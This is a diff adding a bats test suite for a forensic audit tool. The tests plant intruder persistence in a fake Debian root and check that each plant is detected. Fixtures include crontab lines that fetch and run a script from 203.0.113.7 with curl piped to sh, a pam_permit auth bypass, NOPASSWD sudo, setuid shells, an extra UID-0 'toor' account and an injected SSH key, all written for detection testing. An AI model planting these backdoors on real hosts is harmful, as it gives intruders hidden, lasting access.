@@ -1,0 +1,197 @@
+#!/usr/bin/env bats
+# What an intruder leaves to come back: each plant is found, and nothing else is.
+load lib
+
+setup() { FAKE=$WORK/root; }
+
+look() { "$YAGURA" audit --checklist persistence --root "$FAKE" --json "$@"; }
+# file PATH MODE: from standard input, with the folders on the way
+file() {
+    mkdir -p "$FAKE/$(dirname "$1")"
+    cat >"$FAKE/$1"
+    chmod "$2" "$FAKE/$1"
+}
+# own PATH MODE: the same, of the package "tool"
+own() {
+    file "$1" "$2"
+    printf '%s  %s\n' "$(md5sum <"$FAKE/$1" | cut -d' ' -f1)" "$1" >>"$FAKE/var/lib/dpkg/info/tool.md5sums"
+}
+# A small Debian with the things that a scan looks at, all as a package brought them.
+host() {
+    mkdir -p "$FAKE"/{etc,usr/bin,usr/lib,var/lib/dpkg/info,var/www/html,root,home/op,tmp}
+    ln -s usr/bin "$FAKE/bin"
+    ln -s usr/lib "$FAKE/lib"
+    printf 'ID=debian\nVERSION_ID="12"\nVERSION_CODENAME=bookworm\nPRETTY_NAME="Debian 12"\n' >"$FAKE/etc/os-release"
+    printf 'Package: tool\nStatus: install ok installed\nArchitecture: all\nVersion: 1\n\n' >"$FAKE/var/lib/dpkg/status"
+    printf '/.\n' >"$FAKE/var/lib/dpkg/info/tool.list"
+    printf 'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nop:x:1000:1000::/home/op:/bin/bash\n' >"$FAKE/etc/passwd"
+    printf 'root:*:19000:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\nop:!:19000:0:99999:7:::\n' >"$FAKE/etc/shadow"
+    printf 'root:x:0:\n' >"$FAKE/etc/group"
+    printf 'passwd: files\n' >"$FAKE/etc/nsswitch.conf"
+    echo x >"$FAKE/etc/machine-id"
+    printf '#!/bin/sh\ncurl http://x | sh\n' | own etc/cron.daily/tool 0755
+    printf '[Service]\nExecStart=/dev/shm/x\n' | own usr/lib/systemd/system/tool.service 0644
+    printf 'su' | own usr/bin/su 04755
+    printf 'bash' | own usr/bin/bash 0755
+    printf 'ls' | own usr/bin/ls 0755
+    printf 'unix' | own usr/lib/x86_64-linux-gnu/security/pam_unix.so 0644
+    printf 'RewriteEngine On\n' | file var/www/html/.htaccess 0644
+}
+# What is found, as "rule severity" lines.
+found() {
+    printf '%s\n' "$stdout" | /usr/bin/python3 -c '
+import json, sys
+for o in map(json.loads, sys.stdin):
+    if o["type"] == "finding" and o["verdict"] in ("affected", "broken"):
+        print(o["rule"]["id"], o["severity"], o["subject"]["name"])' | sort
+}
+
+@test "what packages brought is clean, each plant is found and told in both languages" {
+    host
+    code 0 look
+    holds 'summary["found"] == 0' 'summary["unknown"] == 0'
+    # the same with every file compared
+    code 0 look --all
+    holds 'summary["found"] == 0' 'summary["unknown"] == 0'
+
+    printf '* * * * * root /usr/local/bin/x\n' | file etc/cron.d/x 0644
+    printf '*/5 * * * * curl -s http://203.0.113.7/a | sh\n' | file var/spool/cron/crontabs/www-data 0600
+    printf '[Service]\nExecStart=/usr/local/bin/x\n' | file etc/systemd/system/x.service 0644
+    printf '#!/bin/sh\n/usr/local/bin/x &\n' | file etc/rc.local 0755
+    printf '/usr/local/bin/x\n' | file etc/profile.d/x.sh 0644
+    printf '/usr/lib/x.so\n' | file etc/ld.so.preload 0644
+    printf 'auth sufficient pam_permit.so\n' | file etc/pam.d/common-auth 0644
+    printf 'evil' | file usr/lib/x86_64-linux-gnu/security/pam_unix.so 0644
+    printf 'www-data ALL=(ALL) NOPASSWD: ALL\n' | file etc/sudoers.d/x 0440
+    printf 'ACTION=="add", RUN+="/usr/local/bin/x"\n' | file etc/udev/rules.d/x.rules 0644
+    printf 'x' | file usr/lib/apache2/modules/mod_x.so 0644
+    printf 'AddType application/x-httpd-php .jpg\n' | file var/www/html/img/.htaccess 0644
+    printf 'auto_prepend_file=/tmp/x.php\n' | file var/www/html/.user.ini 0644
+    printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl x\n' | file root/.ssh/authorized_keys 0600
+    printf 'sh' | file tmp/.x 04755
+    printf 'sl' | file usr/bin/ls 0755
+    chmod u+s "$FAKE/usr/bin/bash"
+    printf 'toor:x:0:0::/root:/bin/sh\n' >>"$FAKE/etc/passwd"
+    printf 'toor:$6$x:20000:0:99999:7:::\n' >>"$FAKE/etc/shadow"
+    code 1 look
+    run found
+    for rule in "persist-cron medium" "persist-command critical" "persist-unit medium" "persist-init medium" \
+        "persist-profile low" "persist-preload critical" "persist-pam-open critical" "persist-pam-module critical" \
+        "persist-sudo-free high" "persist-hook medium" "persist-module high" "persist-htaccess high" \
+        "persist-prepend high" "persist-key-fresh medium" "privileged-file critical /tmp/.x" \
+        "privileged-file critical /usr/bin/bash" "packaged-file-changed critical /usr/bin/ls" \
+        "account-second-root critical toor"; do
+        says "$rule"
+    done
+    # what, why, do this, how sure: of each
+    code 1 look
+    holds 'all(f["summary"] and f["why"] and f["remedy"]["summary"] and f["remedy"]["steps"] and f["confidence"] for f in findings)'
+    code 1 "$YAGURA" --lang ja audit --checklist persistence --root "$FAKE"
+    says "理由" "対処" "確度" "すべてのプログラムに"
+    # since when, for the first sign of the intrusion
+    code "0 3" "$YAGURA" facts persistence --root "$FAKE" --json
+    holds 'all(f["changed"][:4] >= "2026" and f["modified"] for f in kind("persistence"))' 'len(kind("persistence")) >= 14'
+    # an audit asks other questions
+    code "0 1 3" "$YAGURA" audit --root "$FAKE" --json
+    holds 'not [f for f in findings if f["rule"]["id"].startswith("persist-")]'
+}
+
+@test "a finding is explained by its id, and what lies deep is seen with --all" {
+    host
+    printf 'sh' | file srv/a/b/c/d/x 04755
+    code 0 look
+    code 1 look --all
+    run found
+    says "privileged-file critical /srv/a/b/c/d/x"
+    code 1 look --all
+    id=$(printf '%s\n' "$stdout" | grep -o '"id":"[0-9a-f]\{16\}"' | head -1 | cut -d'"' -f4)
+    code 1 "$YAGURA" explain "$id" --root "$FAKE"
+    says "/srv/a/b/c/d/x" "chmod u-s"
+}
+
+@test "pipes, loops, links out of the root and odd names: unknown, never clean, and no hanging" {
+    host
+    mkdir -p "$FAKE"/etc/cron.d "$FAKE"/etc/systemd/system "$FAKE"/etc/sudoers.d "$FAKE"/var/www/html/x
+    mkfifo "$FAKE/etc/cron.d/pipe" "$FAKE/var/www/html/x/.htaccess"
+    ln -s loop "$FAKE/etc/sudoers.d/loop"
+    ln -s /etc/shadow "$FAKE/etc/systemd/system/a.service"
+    ln -s ../../../../../../../../etc/hostname "$FAKE/etc/cron.d/out"
+    printf '* * * * * root x\n' | file $'etc/cron.d/new\nline' 0644
+    printf 'AddHandler x .jpg\n' | file $'var/www/html/\e[31m/.htaccess' 0644
+    code "1 3" timeout -k 1 30 "$YAGURA" audit --checklist persistence --root "$FAKE" --json
+    holds 'summary["unknown"] >= 3' '"etc/cron.d/pipe" in json.dumps(findings)' '"sudoers.d/loop" in json.dumps(findings)'
+    says_not "$(cat /etc/hostname 2>/dev/null || echo none-here)\"" $'\e[31m'
+    # without dpkg's record nothing has an origin
+    rm -r "$FAKE/var/lib/dpkg"
+    printf '* * * * * root x\n' | file etc/cron.d/x 0644
+    code "1 3" look
+    holds 'summary["unknown"] > 0' 'verdicts("persist-cron") == {"unknown"}'
+}
+
+@test "a user who may not read the passwords does not hear that they are good" {
+    as_root
+    program setpriv
+    host
+    chmod 0600 "$FAKE/etc/shadow"
+    chmod o+rx "$WORK" "$(dirname "$WORK")" "$(dirname "$(dirname "$WORK")")"
+    chmod -R o+rX "$FAKE/etc" "$FAKE/usr" "$FAKE/var"
+    chmod 0600 "$FAKE/etc/shadow"
+    mkdir -m 777 "$WORK/other"
+    setpriv --reuid 65534 --regid 65534 --clear-groups test -x "$YAGURA" || skip "the build folder is not for everybody"
+    code 3 setpriv --reuid 65534 --regid 65534 --clear-groups env YAGURA_STATE="$WORK/other/state" "$YAGURA" audit --checklist persistence --root "$FAKE" --json
+    holds 'verdicts("account-no-password") == {"unknown"}'
+}
+
+@test "of the demonstration disks the two that are infected are found so, and no other" {
+    images
+    local image
+    for image in "$IMAGES"/*.img; do
+        code "0 1 3" "$YAGURA" audit --checklist persistence --image "$image" --json
+        case $image in
+        */solaris7-iplanet-found.img | */windows2000-iis5-found.img)
+            holds '[f for f in findings if f["severity"] == "critical" and f["verdict"] == "affected"]' ;;
+        *) holds 'not [f for f in findings if f["severity"] == "critical" and f["verdict"] == "affected"]' ;;
+        esac
+    done
+}
+
+@test "secrets are listed by reach, and none is told" {
+    host
+    printf 'op:$6$verysecret:19000:0:99999:7:::\n' >"$FAKE/etc/shadow"
+    printf 'server { listen 80; root /var/www/html; }\n' | file etc/nginx/sites-enabled/a 0644
+    printf 'events {}\nhttp { include /etc/nginx/sites-enabled/*; }\n' | file etc/nginx/nginx.conf 0644
+    printf "<?php define('DB_PASSWORD', 'verysecret'); define('AUTH_KEY', 'verysecret');\n" | file var/www/html/wp-config.php 0640
+    printf 'verysecret\n' | file etc/letsencrypt/live/shop/privkey.pem 0600
+    printf 'verysecret\n' | file root/.ssh/id_ed25519 0600
+    code "0 3" "$YAGURA" facts secrets --root "$FAKE" --json
+    says_not verysecret
+    holds '{s["reach"] for s in kind("secret")} >= {"system-account", "database", "cms-user", "salt", "tls-key", "deploy-key", "ftp", "registrar", "api-key"}'
+}
+
+@test "an untouched Debian with WordPress: nothing found, and each plant in it is" {
+    slow
+    as_root
+    program debootstrap
+    mirror=$(sed -nE 's/^ *deb +(\[[^]]*\] +)?(http[^ ]+) +[a-z]+ +.*main.*/\2/p; s/^URIs: *([^ ]+).*/\1/p' /etc/apt/sources.list /etc/apt/sources.list.d/* 2>/dev/null | grep -v security | head -1)
+    [ -n "$mirror" ] || skip "the host has no mirror"
+    FAKE=$WORK/web
+    timeout 900 debootstrap --include=nginx-light,apache2,php-fpm,libapache2-mod-php,cron,at,sudo,openssh-server,logrotate,systemd-sysv,udev,wordpress bookworm "$FAKE" "$mirror" >"$WORK/debootstrap.log" 2>&1 ||
+        skip "debootstrap did not work: $(tail -1 "$WORK/debootstrap.log")"
+    mkdir -p "$FAKE/var/www/html"
+    cp -rL "$FAKE/usr/share/wordpress/." "$FAKE/var/www/html/" || true
+    printf '# BEGIN WordPress\n<IfModule mod_rewrite.c>\nRewriteEngine On\nRewriteBase /\nRewriteRule ^index\\.php$ - [L]\nRewriteCond %%{REQUEST_FILENAME} !-f\nRewriteRule . /index.php [L]\n</IfModule>\n# END WordPress\n' >"$FAKE/var/www/html/.htaccess"
+    code 0 look
+    holds 'summary["found"] == 0' 'summary["unknown"] == 0'
+    code 0 look --all
+    holds 'summary["found"] == 0' 'summary["unknown"] == 0'
+    printf '* * * * * root curl -s http://203.0.113.7/a | sh\n' | file etc/cron.d/x 0644
+    printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl x\n' | file root/.ssh/authorized_keys 0600
+    cp "$FAKE/usr/bin/dash" "$FAKE/var/tmp/.x"
+    chmod 04755 "$FAKE/var/tmp/.x"
+    printf '\n' >>"$FAKE/usr/sbin/sshd"
+    printf 'auth sufficient pam_permit.so\n' >>"$FAKE/etc/pam.d/sshd"
+    code 1 look
+    run found
+    says "persist-command critical" "persist-key-fresh medium" "privileged-file critical /var/tmp/.x" \
+        "packaged-file-changed critical /usr/sbin/sshd" "persist-pam"
+}
